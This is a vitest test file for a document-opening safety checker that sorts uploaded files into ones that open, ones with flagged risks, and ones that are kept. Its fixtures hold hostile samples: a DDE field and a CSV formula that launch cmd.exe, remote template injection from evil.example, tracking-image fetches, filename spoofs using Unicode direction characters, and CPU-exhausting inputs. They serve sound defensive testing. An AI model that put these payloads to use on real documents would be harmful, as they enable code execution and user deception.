import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import fc from 'fast-check'
import { afterAll, describe, expect, test } from 'vitest'
import { paper, picture, sampleFile } from '../../../../simulator/sample-media.ts'
import { endingOf, isOpenableEnding } from '../../../shared/lib/file-endings.ts'
import {
  compoundDocument,
  officeDocument,
  openDocument,
  relation,
  workbook,
  zipOf,
} from '../testing/sample-documents.ts'
import { safeFileName } from './file-name.ts'
import { judgeOpening, type OpeningJudgement } from './opening-rules.ts'
import { sniffType } from '../lib/sniff-type.ts'

const folder = mkdtempSync(path.join(tmpdir(), 'parley-opening-'))
afterAll(() => rmSync(folder, { recursive: true }))
const raw = (text: string): Buffer => Buffer.from(text, 'latin1')

async function judged(name: string, bytes: Buffer): Promise<OpeningJudgement> {
  const file = path.join(folder, 'file')
  writeFileSync(file, bytes)
  return judgeOpening(file, bytes.length, name, safeFileName(name, sniffType(bytes), 'document'))
}

describe('honest documents are opened at once', () => {
  test.each<[string, Buffer]>([
    ['contrato.docx', officeDocument('docx')],
    ['modelo.dotx', officeDocument('dotx')],
    ['PEDIDO.XLSX', officeDocument('xlsx')],
    ['aula.pptx', officeDocument('pptx')],
    ['aula.ppsx', officeDocument('ppsx')],
    ['carta.odt', openDocument('text')],
    ['lista.ods', openDocument('spreadsheet')],
    ['aula.odp', openDocument('presentation')],
    ['carta.doc', compoundDocument(['WordDocument', '1Table'])],
    ['lista.xls', compoundDocument(['Workbook'], workbook(0, 0))],
    ['aula.ppt', compoundDocument(['PowerPoint Document'])],
    ['nota.pdf', paper('Nota')],
    ['nota com marca.pdf', Buffer.concat([raw('\xef\xbb\xbf'), paper('Nota')])],
    ['nota depois de linhas.pdf', Buffer.concat([raw('\r\n'.repeat(500)), paper('Nota')])],
    ['nota', paper('Nota')],
    ['Relatório 05.2026', paper('Nota')],
    ['notas.txt', Buffer.from('Olá! Até amanhã às 9.\n')],
    ['antigas.txt', raw('Ol\xe1! At\xe9 amanh\xe3.\r\n')],
    ['unicode.csv', Buffer.from('\ufeffnome;preço\nTorta;10,50\n', 'utf16le')],
    ['itens.csv', Buffer.from('nome;valor\nTorta;-10\n=SOMA(A1:A2);1\n')],
    ['carta.rtf', raw('{\\rtf1\\ansi Ol\\e1}')],
    ['carta.doc', raw('{\\rtf1\\ansi Ol\\e1}')],
    ['modelo.DOT', raw('{\\rtf1\\ansi Ol\\e1}')],
    ['foto.jpg', picture(4, 4, 0.2)],
    [
      'foto.bmp',
      Buffer.concat([
        raw('BM'),
        Buffer.from([90, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0]),
        Buffer.alloc(60),
      ]),
    ],
    ['filme.avi', raw('RIFF\0\0\0\0AVI LIST')],
    ['filme.wmv', raw('\x30\x26\xb2\x75\x8e\x66\xcf\x11')],
    ['voz.ogg', raw('OggS\0\x02\0\0')],
    ['som.mp4', sampleFile('video').bytes],
    [
      'links.docx',
      officeDocument('docx', {
        'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.com/'),
      }),
    ],
    [
      'campos.docx',
      officeDocument('docx', {
        'word/document.xml':
          '<w:fldChar w:fldCharType="begin"/><w:instrText/><w:instrText> HYPERLINK "https://x.example/"</w:instrText><w:instrText> PAGE </w:instrText>',
      }),
    ],
    [
      'aula com passos.odp',
      openDocument('presentation', {
        'content.xml':
          '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>',
      }),
    ],
    ['planilha.pptx', officeDocument('pptx', { 'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': 'x' })],
  ])('%s', async (name, bytes) => {
    const judgement = await judged(name, bytes)
    expect(judgement).toMatchObject({ state: 'opens', risks: [] })
    if (judgement.state === 'opens') expect(isOpenableEnding(endingOf(judgement.name))).toBe(true)
  })
})

describe('documents that can do something are asked about', () => {
  const vba = { 'word/vbaProject.bin': 'x' }
  const outside = (kind: string, target: string, mode?: string): Buffer =>
    officeDocument('docx', { 'word/_rels/settings.xml.rels': relation(kind, target, mode) })
  const field = (code: string, part = 'word/document.xml'): Buffer =>
    officeDocument('docx', { [part]: `<w:document><w:p><w:r>${code}</w:r></w:p></w:document>` })
  test.each<[string, string, Buffer, readonly string[], string]>([
    ['macros in their own form', 'a.docm', officeDocument('docm', vba), ['macros'], ''],
    ['a template with macros', 'a.dotm', officeDocument('dotm'), ['macros'], ''],
    ['a workbook with macros', 'a.xlsm', officeDocument('xlsm'), ['macros'], ''],
    ['an add-in', 'a.xlam', officeDocument('xlam'), ['macros'], ''],
    ['a binary workbook', 'a.xlsb', officeDocument('xlsb'), ['macros'], ''],
    ['slides with macros', 'a.pptm', officeDocument('pptm'), ['macros'], ''],
    [
      'OpenDocument macros',
      'a.odt',
      openDocument('text', { 'Basic/Standard/Module1.xml': 'x' }),
      ['macros'],
      '',
    ],
    [
      'OpenDocument scripts',
      'a.ods',
      openDocument('spreadsheet', { 'Scripts/python/x.py': 'x' }),
      ['macros'],
      '',
    ],
    [
      'macros of before 2007',
      'a.doc',
      compoundDocument(['WordDocument', 'Macros', '_VBA_PROJECT']),
      ['macros'],
      '',
    ],
    [
      'workbook macros of before 2007',
      'a.xls',
      compoundDocument(['Workbook', '_VBA_PROJECT_CUR'], workbook(0)),
      ['macros'],
      '',
    ],
    ['macros of Excel 4', 'a.xls', compoundDocument(['Workbook'], workbook(0, 1)), ['macros'], ''],
    [
      'slides of before 2007 with macros',
      'a.ppt',
      compoundDocument(['PowerPoint Document'], raw('\x1f\0\xff\x03\x14\0\0\0\x02\0\0\x04\x0c\0\0\0')),
      ['macros'],
      '',
    ],
    [
      'a workbook whose sheets cannot be read',
      'a.xls',
      compoundDocument(['Workbook'], raw('\x2f\0\0\0')),
      ['locked'],
      '',
    ],
    [
      'a template from elsewhere',
      'a.docx',
      outside('attachedTemplate', 'https://evil.example/t.dotm'),
      ['outside'],
      'evil.example',
    ],
    [
      'one from a shared folder',
      'a.docx',
      outside('attachedTemplate', '\\\\10.0.0.9\\x\\t.dotm'),
      ['outside'],
      '10.0.0.9',
    ],
    [
      'one whose mode is spelled in numbers',
      'a.docx',
      outside('oleObject', 'https://evil.example/', '&#69;xternal'),
      ['outside'],
      'evil.example',
    ],
    [
      'a linked picture',
      'a.docx',
      outside('image', 'http://count.example/p.png'),
      ['outside'],
      'count.example',
    ],
    [
      'linked workbooks',
      'a.xlsx',
      officeDocument('xlsx', { 'xl/externalLinks/externalLink1.xml': '<x/>' }),
      ['outside'],
      '',
    ],
    [
      'a linked picture in an OpenDocument',
      'a.odt',
      openDocument('text', { 'content.xml': '<draw:image xlink:href="https://count.example/p.png"/>' }),
      ['outside'],
      'count.example',
    ],
    [
      'one whose attributes hold what others should',
      'a.docx',
      officeDocument('docx', {
        'word/_rels/settings.xml.rels':
          '<Relationship Id=" TargetMode=\'Internal\' >" TargetMode="External" Type="x/image" Target="http://count.example/p"/>',
      }),
      ['outside'],
      'count.example',
    ],
    ['one with a tag that is not closed', 'a.docx', field('<w:instrText '), ['outside'], ''],
    [
      'a field that starts a program',
      'a.docx',
      field('<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'),
      ['outside'],
      '',
    ],
    [
      'a field in several runs',
      'a.docx',
      field(
        '<w:instrText xml:space="preserve"> D</w:instrText></w:r><w:r><w:instrText>D&#69; c</w:instrText>',
      ),
      ['outside'],
      '',
    ],
    ['a field torn apart', 'a.docx', field('<w:instrText>D<!-- -->DE c</w:instrText>'), ['outside'], ''],
    [
      'a field that fetches a picture',
      'a.docx',
      field('<w:instrText>INCLUDEPICTURE "http://count.example/x.png" \\d</w:instrText>', 'word/header2.xml'),
      ['outside'],
      'count.example',
    ],
    [
      'a simple field that fetches a text',
      'a.docx',
      field('<x:fldSimple x:instr="INCLUDETEXT &quot;http://count.example/x&quot;"/>'),
      ['outside'],
      'count.example',
    ],
    [
      'a field whose code is spelled in numbers',
      'a.docx',
      field('<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>'),
      ['outside'],
      '',
    ],
    [
      'a linked picture in an OpenDocument under other prefixes',
      'a.odt',
      openDocument('text', {
        'content.xml': '<d:image f:href="a.png" x:href="https://count.example/p.png"/>',
      }),
      ['outside'],
      'count.example',
    ],
    [
      'an OpenDocument that runs a macro when it is opened',
      'a.odt',
      openDocument('text', {
        'content.xml':
          '<s:event-listener s:language="ooo:script" s:event-name="dom:load" x:href="vnd.sun.star.script:a.py$b"/>',
      }),
      ['macros'],
      '',
    ],
    ['controls', 'a.docx', officeDocument('docx', { 'word/activeX/activeX1.bin': 'x' }), ['objects'], ''],
    [
      'a file inside',
      'a.docx',
      officeDocument('docx', { 'word/embeddings/oleObject1.bin': 'x' }),
      ['objects'],
      '',
    ],
    [
      'rich text with an object',
      'a.rtf',
      raw(`{\\rtf1 ${'x'.repeat(300_000)}{\\object\\objemb{\\*\\objdata 01}}}`),
      ['objects'],
      '',
    ],
    [
      'rich text with a template',
      'a.rtf',
      raw('{\\rtf1{\\*\\template http://evil.example/t}}'),
      ['outside'],
      '',
    ],
    ['a cell that starts a program', 'a.csv', raw("nome\r\n=cmd|'/C calc'!A0\r\n"), ['formulas'], ''],
    [
      'a document with a password',
      'a.docx',
      compoundDocument(['EncryptionInfo', 'EncryptedPackage']),
      ['locked'],
      '',
    ],
  ])('%s', async (_, name, bytes, risks, host) => {
    expect(await judged(name, bytes)).toMatchObject({ state: 'opens', risks, host })
  })
})

describe('what is made to keep it busy is looked at soon', () => {
  const content = (xml: string): Buffer => openDocument('text', { 'content.xml': xml })
  const LENGTH = 2_000_000
  test.each<[string, string, Buffer]>([
    ['quotation marks', 'a.csv', raw('a' + '"'.repeat(LENGTH))],
    ['formulas and bars', 'a.csv', raw(',=|'.repeat(LENGTH / 4))],
    ['pictures that are not closed', 'a.odt', content('<draw:image '.repeat(LENGTH / 10))],
    ['pictures', 'a.odt', content('<d:image/>'.repeat(LENGTH / 10))],
    ['tags', 'a.odt', content('<'.repeat(LENGTH))],
    ['a long name', 'a.odt', content(`<${'a'.repeat(LENGTH)}`)],
    ['blanks in a tag', 'a.odt', content(`<d:image${' '.repeat(LENGTH)}`)],
    ['attributes', 'a.odt', content(`<d:image${' a="'.repeat(LENGTH / 4)}`)],
    [
      'relations that are not closed',
      'a.docx',
      officeDocument('docx', { 'word/_rels/document.xml.rels': '<Relationship '.repeat(60_000) }),
    ],
    [
      'fields',
      'a.docx',
      officeDocument('docx', { 'word/document.xml': '<w:instrText>QUOTE </w:instrText>'.repeat(50_000) }),
    ],
    ['lines', 'a.txt', raw(`x${'\n'.repeat(60_000)}`)],
  ])('%s', async (_, name, bytes) => {
    const before = process.cpuUsage()
    await judged(name, bytes)
    const { user, system } = process.cpuUsage(before)
    expect((user + system) / 1000).toBeLessThan(1000)
  })
})

describe('everything else is kept, and the true reason is said', () => {
  const kept = (why: string, look: string, ending: string) => ({ state: 'kept', why, look, ending })
  const html = raw('<!doctype html><script>alert(1)</script>')
  const svg = raw('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>')
  test.each<[string, Buffer, object]>([
    ['setup.exe', raw('MZ\x90\0'), kept('ending', 'program', 'exe')],
    ['nota.pdf', raw('MZ\x90\0'), kept('differs', 'program', 'pdf')],
    ['nota.exe', paper('x'), kept('ending', 'pdf', 'exe')],
    ['nota.pdf.exe', paper('x'), kept('ending', 'pdf', 'exe')],
    ['nota.exe. . ', paper('x'), kept('ending', 'pdf', 'exe')],
    ['nota\u202efdp.exe', raw('MZ'), kept('ending', 'program', 'exe')],
    ['nota.e\u200bxe', raw('MZ'), kept('ending', 'program', 'exe')],
    ['pagina.html', html, kept('ending', 'web-page', 'html')],
    ['pagina.pdf', html, kept('differs', 'web-page', 'pdf')],
    ['extrato.xls', html, kept('differs', 'web-page', 'xls')],
    ['pagina.txt', html, kept('differs', 'web-page', 'txt')],
    ['pagina.pdf', Buffer.concat([html, paper('x')]), kept('differs', 'web-page', 'pdf')],
    ['desenho.svg', svg, kept('ending', 'drawing', 'svg')],
    ['desenho.png', svg, kept('differs', 'drawing', 'png')],
    ['nota.xml', raw('<?xml version="1.0"?><nfe/>'), kept('ending', 'xml', 'xml')],
    ['instalar.sh', raw('#!/bin/sh\n'), kept('ending', 'script', 'sh')],
    ['instalar.txt', raw('#!/bin/sh\n'), kept('differs', 'script', 'txt')],
    ['x.js', raw('alert(1)'), kept('ending', 'text', 'js')],
    ['x.bat', raw('@echo off'), kept('ending', 'text', 'bat')],
    ['x.desktop', raw('[Desktop Entry]\nExec=x'), kept('ending', 'shortcut', 'desktop')],
    ['x.txt', raw('# x\n[Desktop Entry]\nExec=x'), kept('differs', 'shortcut', 'txt')],
    ['x.url', raw('[InternetShortcut]\r\nURL=file:///c:/x'), kept('ending', 'shortcut', 'url')],
    ['x.scf', raw('[Shell]\r\nIconFile=\\\\x\\y'), kept('ending', 'shortcut', 'scf')],
    ['x.lnk', raw('\x4c\0\0\0\x01\x14\x02\0'), kept('ending', 'shortcut', 'lnk')],
    ['x.jar', zipOf({ 'META-INF/MANIFEST.MF': 'x', 'A.class': 'x' }), kept('ending', 'program', 'jar')],
    ['x.apk', zipOf({ 'AndroidManifest.xml': 'x' }), kept('ending', 'program', 'apk')],
    ['x.docx', zipOf({ 'AndroidManifest.xml': 'x' }), kept('differs', 'program', 'docx')],
    ['fotos.zip', zipOf({ 'a.jpg': 'x' }), kept('ending', 'archive', 'zip')],
    ['contrato.docx.zip', officeDocument('docx'), kept('ending', 'text-document', 'zip')],
    ['contrato.pdf', officeDocument('docx'), kept('differs', 'text-document', 'pdf')],
    ['x.docx', zipOf({ 'word/document.xml': 'x', '_rels/.rels': 'x' }), kept('differs', 'archive', 'docx')],
    ['x.docx', officeDocument('docx').subarray(0, 200), kept('differs', 'archive', 'docx')],
    ['x.iso', Buffer.concat([Buffer.alloc(32_769), raw('CD001')]), kept('ending', 'disk-image', 'iso')],
    ['x.msi', compoundDocument(['!Installer', 'Property']), kept('ending', 'program', 'msi')],
    ['x.doc', compoundDocument(['Property']), kept('differs', 'program', 'doc')],
    ['x.msg', compoundDocument(['__properties_version1.0']), kept('ending', 'email', 'msg')],
    ['x.docx', officeDocument('docm'), kept('macros', 'text-document', 'docx')],
    [
      'x.docx',
      officeDocument('docx', { 'word/vbaProject.bin': 'x' }),
      kept('macros', 'text-document', 'docx'),
    ],
    [
      'x.xlsx',
      officeDocument('xlsx', { 'xl/macrosheets/sheet1.xml': 'x' }),
      kept('macros', 'spreadsheet', 'xlsx'),
    ],
    ['x.dat', raw('\0\x01\x02\x03'), kept('ending', 'unknown', 'dat')],
    ['x.pdf', raw('\0\x01\x02\x03'), kept('differs', 'unknown', 'pdf')],
    ['sem nome', raw('MZ'), kept('kind', 'program', '')],
  ])('%s', async (name, bytes, expected) => {
    expect(await judged(name, bytes)).toEqual(expected)
  })
})

test('whatever is inside and whatever it is called, what opens has an ending of the list', async () => {
  const starts = fc.constantFrom(
    '',
    'MZ',
    '%PDF-1.4',
    '<svg>',
    '<html>',
    'PK\x03\x04',
    '#!',
    'RIFF',
    '{\\rtf1',
    'Ola ',
  )
  const endings = fc.constantFrom(
    '',
    '.exe',
    '.pdf',
    '.html',
    '.svg',
    '.docx',
    '.txt',
    '.lnk',
    '.desktop',
    '.jpg',
    '.scr',
  )
  await fc.assert(
    fc.asyncProperty(
      fc.tuple(starts, fc.uint8Array({ maxLength: 60 })),
      fc.tuple(
        fc.string({ unit: 'grapheme', maxLength: 30 }),
        endings,
        fc.constantFrom('', '.', ' ', '\u202e', '\u200b'),
      ),
      async ([start, rest], [stem, ending, tail]) => {
        const name = `${stem}${ending}${tail}`
        const judgement = await judged(name, Buffer.concat([raw(start), rest]))
        if (judgement.state !== 'opens') return
        expect(isOpenableEnding(endingOf(judgement.name))).toBe(true)
        expect(['MZ', '<svg>', '<html>', '#!']).not.toContain(start)
        expect(['.exe', '.html', '.svg', '.lnk', '.desktop', '.scr']).not.toContain(ending)
      },
    ),
    { numRuns: 400 },
  )
})

test('a name of very many dots takes no time', () => {
  const name = `foto${'. '.repeat(200_000)}ж`
  expect(endingOf(name)).toBe('')
  expect(safeFileName(name, 'image/jpeg', 'file').length).toBeLessThan(200)
})
